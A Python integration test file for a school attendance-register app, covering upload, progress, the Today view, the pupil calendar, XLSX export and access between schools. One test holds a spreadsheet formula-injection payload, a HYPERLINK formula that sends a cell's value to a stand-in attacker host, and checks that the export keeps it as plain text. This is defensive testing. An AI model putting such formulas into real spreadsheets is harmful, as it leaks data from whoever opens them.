"""Upload, progress, Today and the pupil calendar over HTTP, on both engines."""

from __future__ import annotations

import io

import httpx
from openpyxl import load_workbook

from cme.demo_registers import to_csv, wide_rows
from cme.jobs.inprocess import InProcessQueue
from cme.storage.tables import Pupil, RegisterUpload
from tests.integration.helpers import World, csrf_token, sign_in
from tests.integration.registers import grid, snapshot


async def upload(
    client: httpx.AsyncClient, content: bytes, name: str = "register.csv"
) -> httpx.Response:
    page = await client.get("/school/registers")
    return await client.post(
        "/school/registers",
        data={"_csrf_token": csrf_token(page.text)},
        files={"register": (name, content, "text/csv")},
    )


async def test_upload_runs_in_the_background_and_fills_today(
    client: httpx.AsyncClient, world: World, jobs: InProcessQueue
) -> None:
    g = grid()
    await sign_in(client, "ao.a@test.example")
    response = await upload(client, to_csv(wide_rows(g)))
    assert response.status_code == 303
    location = response.headers["location"]
    await jobs.drain()
    status = (await client.get(f"{location}/status")).json()
    expected = {"status": "done", "progress": 100, "stage": "Imported", "finished": True}
    assert status.items() >= expected.items()
    page = await client.get(location)
    assert "Imported" in page.text and f"{len(g.pupils)} (" in page.text

    today = await client.get("/school/today")
    day_one = g.pupils[2]
    assert f"{day_one.legal_surname}, {day_one.legal_forename}" in today.text
    assert "Friday 24 January 2025" in today.text
    filtered = await client.get("/school/today?flag=missing_mark")
    assert g.pupils[5].upn in filtered.text and day_one.upn not in filtered.text

    pupil_id = (await Pupil.select(Pupil.id).where(Pupil.upn == day_one.upn).first())["id"]
    calendar = await client.get(f"/school/pupils/{pupil_id}")
    assert calendar.status_code == 200
    assert 'data-month="January 2025"' in calendar.text
    assert 'data-date="2025-01-24"' in calendar.text
    assert 'class="closed"' in calendar.text  # the INSET day


async def test_today_exports_to_xlsx(
    client: httpx.AsyncClient, world: World, jobs: InProcessQueue
) -> None:
    await sign_in(client, "ao.a@test.example")
    await upload(client, to_csv(wide_rows(grid())))
    await jobs.drain()
    response = await client.get("/school/today.xlsx")
    assert response.status_code == 200
    assert "attachment" in response.headers["content-disposition"]
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[1][0] == "UPN"
    assert len(rows) > 3


async def test_bad_upload_shows_what_to_fix_and_stores_nothing(
    client: httpx.AsyncClient, world: World, jobs: InProcessQueue
) -> None:
    await sign_in(client, "ao.a@test.example")
    before = await snapshot()
    response = await upload(client, b"Name,Class\nAsh,3A\n")
    await jobs.drain()
    page = await client.get(response.headers["location"])
    assert "The register was not imported" in page.text
    assert "Headers found" in page.text
    assert await snapshot() == before


async def test_empty_or_missing_file_is_explained(client: httpx.AsyncClient, world: World) -> None:
    await sign_in(client, "ao.a@test.example")
    empty = await upload(client, b"")
    assert empty.status_code == 400
    assert "is empty" in empty.text
    assert await RegisterUpload.count() == 0


async def test_other_schools_upload_is_not_found(
    client: httpx.AsyncClient, world: World, jobs: InProcessQueue
) -> None:
    await sign_in(client, "ao.a@test.example")
    location = (await upload(client, to_csv(wide_rows(grid())))).headers["location"]
    await jobs.drain()
    client.cookies.clear()
    await sign_in(client, "ao.b@test.example")
    assert (await client.get(location)).status_code == 404
    assert (await client.get(f"{location}/status")).status_code == 404
    today = await client.get("/school/today")
    assert "No register has been imported yet" in today.text


async def test_today_without_register_and_on_a_weekend(
    client: httpx.AsyncClient, world: World, jobs: InProcessQueue
) -> None:
    await sign_in(client, "dsl.a@test.example")
    assert "No register has been imported yet" in (await client.get("/school/today")).text
    await upload(client, to_csv(wide_rows(grid())))
    await jobs.drain()
    weekend = await client.get("/school/today?on=2025-01-18")
    assert "is not a school day here" in weekend.text
    nonsense = await client.get("/school/today?on=not-a-date")
    assert "is not a date" in nonsense.text


async def test_xlsx_export_never_turns_register_text_into_formulas(
    client: httpx.AsyncClient, world: World, jobs: InProcessQueue
) -> None:
    rows = [
        ["UPN", "Legal Surname", "Legal Forename", "24/01/2025 AM", "24/01/2025 PM"],
        ["A370200124001", '=HYPERLINK("http://evil.example/?"&A3,"Click")', "=1+1", "N", "N"],
    ]
    await sign_in(client, "ao.a@test.example")
    await upload(client, to_csv(rows))
    await jobs.drain()
    response = await client.get("/school/today.xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    row = next(r for r in sheet.iter_rows(min_row=3) if r[0].value == "A370200124001")
    assert row[1].data_type == "s" and row[1].value.startswith("=HYPERLINK")
    assert row[2].data_type == "s" and row[2].value == "=1+1"
